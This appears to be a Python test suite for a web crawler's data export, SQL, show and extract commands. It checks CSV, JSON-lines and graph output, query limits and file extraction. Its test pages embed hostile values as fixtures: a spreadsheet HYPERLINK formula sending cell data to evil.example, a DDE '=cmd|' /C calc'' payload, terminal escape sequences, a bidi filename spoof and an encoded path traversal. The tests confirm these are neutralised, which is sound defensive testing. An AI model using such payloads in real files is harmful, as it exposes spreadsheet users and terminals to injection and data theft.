"""crawler export, sql, show and extract: the data of a crawl for other programs."""
import csv
import io
import json
import os
import resource
import signal
import sqlite3
import subprocess
import time
import xml.etree.ElementTree as ElementTree

import harness

KINDS = ("urls", "pages", "links", "broken", "redirects", "titles", "changes", "dead-letters",
         "hosts", "text")
HTML = {"Content-Type": "text/html; charset=utf-8"}
TITLES = {
    "/formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "/plus": "+1+1", "/minus": "-2+3", "/at": "@SUM(A1:A9)",
    "/quotes": 'He said "no", twice',
    "/escape": "\x1b]0;owned\x07 and \u009b31m",
    "/bidi": "abc\u202egnp.exe",
    "/emoji": "Grüße, \U0001f600 世界",
    "/same1": "The same", "/same2": "The same",
}


def page(title, body=""):
    for character, entity in (("&", "&amp;"), ("<", "&lt;"), ("\x1b", "&#27;")):
        title = title.replace(character, entity)
    return (HTML, f"<title>{title}</title>{body}".encode())


def hostile_pages():
    links = "".join(f"<a href='{path}'>{path}</a>" for path in TITLES)
    links += ("<a href='/gone'>=cmd|' /C calc'!A0</a><a href='/r1'>r</a><a href='/loop1'>l</a>"
              "<a href='/self'>s</a><a href='/bytes'>b</a><a rel=nofollow href='/never'>n</a>"
              "<a href='/?=1,\"2\"&b=%0d%0a'>q</a><img src='/logo.png'>")
    pages = {path: page(title) for path, title in TITLES.items()}
    pages["/"] = (HTML, b"<title>Front</title>" + links.encode())
    pages["/bytes"] = (HTML, b"<title>broken \xff\xfe bytes</title>\xe2\x82")
    for path, target in (("/r1", "/r2"), ("/r2", "/gone"), ("/loop1", "/loop2"),
                         ("/loop2", "/loop1"), ("/self", "/self")):
        pages[path] = ({"Location": target}, b"", 302)
    return pages


class Data(harness.Case):
    def rows(self, what, *options):
        """The rows as CSV has them; those of JSON lines must be the same."""
        command = [self.crawler.program, "export", str(self.out), what, *options]
        text = subprocess.run(command, check=True, capture_output=True, timeout=60).stdout
        rows = list(csv.DictReader(io.StringIO(text.decode(), newline=""), strict=True))
        lines = subprocess.run([*command, "--format", "jsonl"], check=True, capture_output=True,
                               timeout=60).stdout
        objects = [json.loads(line) for line in lines.decode().splitlines()]
        self.assertEqual(len(rows), len(objects), what)
        for row, found in zip(rows, objects):
            self.assertNotIn(None, row, what)
            self.assertEqual(list(row), list(found), what)
        self.assertNotIn(b"\x1b", text + lines)
        return objects, rows

    def export(self, *arguments, check=0):
        return self.crawler.run("export", self.out, *arguments, check=check)


class Hostile(Data):
    def setUp(self):
        super().setUp()
        server = harness.PageServer(hostile_pages())
        self.server = server.__enter__()
        self.addCleanup(server.__exit__)
        self.crawler.run("crawl", server.url(), "--out", self.out, *harness.QUICK)

    def test_titles_of_any_kind(self):
        objects, rows = self.rows("pages")
        found = {o["url"]: o["title"] for o in objects}
        for path, title in TITLES.items():
            shown = found[self.server.url(path)]
            if path != "/escape":
                self.assertEqual(shown, title)
        self.assertIn("\ufffd", found[self.server.url("/bytes")])
        for row in rows:
            for value in row.values():
                self.assertFalse(value[:1] in ("=", "+", "@", "\t", "\r"), value)
        by_url = {row["url"]: row["title"] for row in rows}
        self.assertEqual(by_url[self.server.url("/minus")], "'-2+3")
        self.assertEqual(by_url[self.server.url("/formula")], "'" + TITLES["/formula"])

    def test_every_part_in_both_formats(self):
        for what in KINDS:
            self.rows(what)

    def test_urls_and_links_are_those_of_the_catalogue(self):
        catalogue = harness.Catalogue(self.out)
        urls, _ = self.rows("urls")
        self.assertEqual({u["url"]: (u["fate"], u["reason"]) for u in urls}, catalogue.fates())
        links, _ = self.rows("links")
        self.assertEqual(sorted((x["source"], x["target"], x["nofollow"]) for x in links),
                         catalogue.state()["edges"])

    def test_broken_links_and_redirects(self):
        url = self.server.url
        broken, rows = self.rows("broken")
        self.assertIn((url("/gone"), 404, "link", url("/"), "=cmd|' /C calc'!A0"),
                      [(b["url"], b["status_code"], b["via"], b["from_url"], b["anchor"])
                       for b in broken])
        self.assertIn("'=cmd|' /C calc'!A0", [row["anchor"] for row in rows])
        redirects = {r["url"]: r for r in self.rows("redirects")[0]}
        self.assertEqual({u: (r["hops"], r["loop"], r["end_url"]) for u, r in redirects.items()}, {
            url("/r1"): (2, 0, url("/gone")), url("/r2"): (1, 0, url("/gone")),
            url("/loop1"): (2, 1, url("/loop1")), url("/loop2"): (2, 1, url("/loop2")),
            url("/self"): (1, 1, url("/self"))})
        self.assertEqual((redirects[url("/r1")]["end_fate"], redirects[url("/r1")]["end_status"]),
                         ("http error", 404))

    def test_shared_titles(self):
        titles = {t["url"]: t["pages"] for t in self.rows("titles")[0]}
        self.assertEqual((titles[self.server.url("/same1")], titles[self.server.url("/plus")]),
                         (2, 1))
        views = harness.Catalogue(self.out).rows("SELECT url FROM duplicate_titles ORDER BY url")
        self.assertEqual([u for u, in views], [self.server.url("/same1"),
                                               self.server.url("/same2")])

    def test_the_graph(self):
        catalogue = harness.Catalogue(self.out)
        edges = sorted(catalogue.rows("SELECT from_id, to_id FROM edges"))
        urls = [u for u, in catalogue.rows("SELECT url FROM urls ORDER BY id")]
        graph = ElementTree.fromstring(self.export("graph").stdout)
        ns = "{http://graphml.graphdrawing.org/xmlns}"
        nodes = {node.get("id"): {d.get("key"): d.text for d in node}
                 for node in graph.iter(ns + "node")}
        self.assertEqual([nodes[f"n{i + 1}"]["url"] for i in range(len(urls))], urls)
        self.assertIn(TITLES["/quotes"], [node.get("title") for node in nodes.values()])
        self.assertEqual(sorted((int(e.get("source")[1:]), int(e.get("target")[1:]))
                                for e in graph.iter(ns + "edge")), edges)
        self.assertEqual(self.export("graph", "--format", "urls").stdout.split("\n")[:-1], urls)
        lines = self.export("graph", "--format", "adjacency").stdout.split("\n")[:-1]
        self.assertEqual(len(lines), len(urls))
        self.assertEqual(sorted((n + 1, int(to)) for n, line in enumerate(lines)
                                for to in line.split()), edges)
        self.export("graph", "--format", "csv", check=2)
        self.export("urls", "--format", "graphml", check=2)

    def test_sql(self):
        query = "SELECT url, title FROM pages ORDER BY url"
        done = self.crawler.run("sql", self.out, query, "--format", "jsonl")
        found = [json.loads(line) for line in done.stdout.splitlines()]
        self.assertEqual([(r["url"], r["title"]) for r in found if "/bytes" not in r["url"]
                          and "/escape" not in r["url"]],
                         [r for r in harness.Catalogue(self.out).rows(query)
                          if "/bytes" not in r[0] and "/escape" not in r[0]])
        table = self.crawler.run("sql", self.out, query, "--format", "table").stdout
        self.assertEqual(len(table.splitlines()), len(found) + 2)
        self.assertNotIn("\x1b", table)
        self.assertNotIn("\u202e", table)
        text = self.crawler.run("sql", self.out, "SELECT text FROM texts WHERE url LIKE '%/'").stdout
        self.assertIn("/formula", text)
        for bad in ("DELETE FROM urls", "SELECT", "ATTACH 'x' AS y", "SELECT 1; SELECT 2"):
            done = self.crawler.run("sql", self.out, bad, check=2)
            self.assertEqual((done.stdout, done.stderr.count("\n")), ("", 1))

    def test_a_query_can_be_stopped(self):
        endless = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM n) SELECT sum(i) FROM n"
        done = self.crawler.run("sql", self.out, endless, "--max-time", "100ms", check=1)
        self.assertIn("time limit", done.stderr)
        process = self.crawler.start("sql", self.out, endless)
        time.sleep(0.5)
        process.send_signal(signal.SIGINT)
        self.assertEqual(process.wait(timeout=10), 1)
        process.communicate()


class Stored(Data):
    PAGES = {
        "/": (HTML, b"<title>Front</title><p>Hello</p><p>\x1b[31mred</p><a href='/a'>A</a>"
                    b"<a rel=nofollow href='/n'>N</a><a href='/a/b'>B</a><a href='/a/b?x=1'>B1</a>"
                    b"<a href='/a/b?x=2'>B2</a><a href='/t.txt'>T</a><a href='/gone'>G</a>"
                    b"<a href='/..%2f..%2f..%2fescape'>E</a><a href='/old'>O</a>"
                    b"<a href='/copy'>C</a><a href='/large'>L</a>"),
        "/a": (HTML, b"<title>a</title>a"), "/a/b": (HTML, b"b"), "/a/b?x=1": (HTML, b"b1"),
        "/a/b?x=2": (HTML, b"b2"), "/..%2f..%2f..%2fescape": (HTML, b"escape"),
        "/t.txt": ({"Content-Type": "text/plain"}, b"plain\ntext\n"),
        "/large": (HTML, b"large " * 50_000),
        "/copy": (HTML, b"<title>a</title>a"),
        "/old": ({"Location": "/a"}, b"moved", 301)}

    def setUp(self):
        super().setUp()
        server = harness.PageServer(dict(self.PAGES))
        self.server = server.__enter__()
        self.addCleanup(server.__exit__)

    def crawl(self, *options):
        self.crawler.run("crawl", self.server.url(), "--out", self.out, *harness.QUICK, *options)

    def show(self, url, *options, check=0):
        return self.crawler.run("show", self.out, url, *options, check=check)

    def test_what_is_stored_of_a_url(self):
        self.crawl()
        body = subprocess.run([self.crawler.program, "show", str(self.out), "/", "--body"],
                              check=True, capture_output=True).stdout
        self.assertEqual(body, self.PAGES["/"][1])
        head = self.show("/", "--headers").stdout.splitlines()
        self.assertEqual(head[0], "HTTP/1.1 200 OK")
        self.assertIn("Content-Type: text/html; charset=utf-8", head)
        self.assertEqual(self.show("/", "--text").stdout.splitlines()[0], "Hello")
        links = self.show(self.server.url(), "--links").stdout.splitlines()
        self.assertEqual(links[:2], [self.server.url("/a") + ' "A"',
                                     self.server.url("/n") + ' nofollow "N"'])
        whole = self.show("/").stdout
        self.assertTrue("Front" in whole and "HTTP/1.1 200" in whole and "Hello" in whole, whole)
        self.assertNotIn("\x1b", whole)
        self.assertEqual(self.show("/copy", "--text").stdout, self.show("/a", "--text").stdout)
        self.assertIn("Location: /a", self.show("/old", "--headers").stdout)
        self.assertIn(" 404 ", self.show("/gone", "--headers").stdout.splitlines()[0])
        target = self.base / "t.txt"
        self.show("/t.txt", "--body", "-o", target)
        self.assertEqual(target.read_bytes(), self.PAGES["/t.txt"][1])

    def test_nothing_is_stored(self):
        self.crawl()
        self.assertIn("explain", self.show("/never", check=1).stderr)
        self.show("mailto:a@b", check=2)
        self.show("/", "--body", "--text", check=2)
        self.crawler.run("show", self.base / "none", "/", check=1)
        with open(next((self.out / "warc").glob("*.warc.gz")), "r+b") as warc:
            warc.truncate(100)
        self.assertIn("crawl-00001.warc.gz", self.show("/", check=4).stderr)

    def test_without_an_archive(self):
        self.crawl("--no-warc")
        self.assertIn("no WARC", self.show("/", check=1).stderr)

    def test_files(self):
        self.crawl()
        into = self.base / "files"
        self.crawler.run("extract", self.out, "--into", into)
        with open(into / "files.csv", newline="") as listed:
            rows = list(csv.DictReader(listed))
        self.assertEqual({row["url"] for row in rows}, harness.Catalogue(self.out).pages())
        found = {str(path.relative_to(into)) for path in into.rglob("*") if path.is_file()}
        self.assertEqual(found, {row["file"] for row in rows} | {"files.csv"})
        self.assertEqual(len({row["file"] for row in rows}), len(rows))
        for row in rows:
            path = row["url"][len(self.server.url("")):] or "/"
            self.assertEqual((into / row["file"]).read_bytes(), self.PAGES[path][1], row)
            self.assertEqual(int(row["size"]), len(self.PAGES[path][1]))
        self.assertEqual({p.name for p in self.base.iterdir()}, {"crawl", "files"})
        done = self.crawler.run("extract", self.out, "--into", into, check=2)
        self.assertIn("not empty", done.stderr)

    def test_files_of_a_type(self):
        self.crawl()
        into = self.base / "texts"
        self.crawler.run("extract", self.out, "--into", into, "--type", "TEXT/pl*")
        self.assertEqual([p.name for p in into.rglob("*") if p.is_file() and p.suffix != ".csv"],
                         ["t.txt"])

    def test_a_damaged_record_is_left_out(self):
        self.crawl()
        warc = next((self.out / "warc").glob("*.warc.gz"))
        place = harness.Catalogue(self.out).rows(
            "SELECT warc_offset, warc_length FROM pages WHERE url LIKE '%t.txt'")[0]
        data = bytearray(warc.read_bytes())
        data[place[0] + place[1] // 2] ^= 0xff
        warc.write_bytes(data)
        done = self.crawler.run("extract", self.out, "--into", self.base / "files", check=1)
        self.assertIn("/t.txt is left out", done.stderr)
        self.assertIn("1 pages could not be read", done.stderr)

    def test_a_full_disk(self):
        self.crawl()
        into = self.base / "files"
        done = subprocess.run(
            [self.crawler.program, "extract", str(self.out), "--into", str(into)],
            capture_output=True, text=True,
            preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (99_000, 99_000)))
        self.assertEqual(done.returncode, 4, done.stderr)
        self.assertIn("File too large", done.stderr)
        self.assertEqual([p for p in into.rglob("large*")], [])


class Trouble(Data):
    def setUp(self):
        super().setUp()
        web = self.web("1 pages=300 missing=3 links=8")
        self.crawler.run("crawl", web.url(1), "--out", self.out, *harness.QUICK)

    def test_output_that_cannot_be_written(self):
        done = self.export("urls", "-o", "/dev/full", check=4)
        self.assertIn("No space left", done.stderr)
        with open("/dev/full", "w") as full:
            done = subprocess.run([self.crawler.program, "export", str(self.out), "urls"],
                                  stdout=full, stderr=subprocess.PIPE, text=True)
        self.assertEqual(done.returncode, 4)
        self.assertIn("No space left", done.stderr)
        target = self.base / "urls.csv"
        target.write_text("before")
        done = subprocess.run(
            [self.crawler.program, "export", str(self.out), "links", "-o", str(target)],
            capture_output=True, text=True,
            preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (70_000, 70_000)))
        self.assertEqual(done.returncode, 4, done.stderr)
        self.assertIn("File too large", done.stderr)
        self.assertEqual((target.read_text(), os.listdir(self.base)),
                         ("before", sorted(os.listdir(self.base))))
        self.assertEqual([x for x in os.listdir(self.base) if "part" in x], [])
        self.export("urls", "-o", self.base, check=2)
        self.export("urls", "-o", self.base / "no" / "such", check=2)

    def test_a_file_replaces_another_when_it_is_whole(self):
        target = self.base / "urls.csv"
        target.write_text("before")
        link = self.base / "link"
        link.symlink_to(target)
        self.export("urls", "-o", link)
        self.assertEqual(target.read_bytes().decode().replace("\r\n", "\n"),
                         self.export("urls").stdout.replace("\r\n", "\n"))
        self.assertTrue(link.is_symlink())

    def test_nobody_reads(self):
        process = self.crawler.start("export", self.out, "links")
        process.stdout.readline()
        process.stdout.close()
        message = process.stderr.read()
        self.assertEqual(process.wait(timeout=30), 1)
        process.stderr.close()
        self.assertIn("Broken pipe", message)

    def test_no_crawl_and_damage(self):
        self.crawler.run("export", self.base / "none", "urls", check=1)
        self.crawler.run("sql", self.base / "none", "SELECT 1", check=1)
        (self.base / "file").mkdir()
        (self.base / "file" / "crawl.db").write_text("no database " * 100)
        done = self.crawler.run("export", self.base / "file", "urls", check=4)
        self.assertIn("crawl.db", done.stderr)
        done = self.export("all", check=2)
        self.assertIn("is none of urls, pages", done.stderr)
        with sqlite3.connect(self.out / "crawl.db") as db:
            db.execute("PRAGMA user_version = 1000")
        db.close()
        done = self.export("urls", check=4)
        self.assertIn("newer version", done.stderr)

    def test_a_locked_database(self):
        db = sqlite3.connect(self.out / "crawl.db", isolation_level=None)
        self.addCleanup(db.close)
        db.execute("PRAGMA locking_mode = EXCLUSIVE")
        db.execute("BEGIN EXCLUSIVE")
        done = self.export("urls", check=5)
        self.assertIn("locked", done.stderr)

    def test_while_a_crawl_runs(self):
        web = self.web("1 pages=2000 links=5")
        out = self.base / "running"
        process = self.crawler.start("crawl", web.url(1), "--out", out, *harness.QUICK)
        self.addCleanup(process.communicate)
        self.addCleanup(process.kill)
        deadline = time.monotonic() + 60
        rows = 0
        while rows < 10 and time.monotonic() < deadline:
            done = self.crawler.run("export", out, "urls", check=None)
            rows = done.stdout.count("\n") if done.returncode == 0 else 0
        self.assertGreaterEqual(rows, 10)


if __name__ == "__main__":
    harness.main(__doc__)
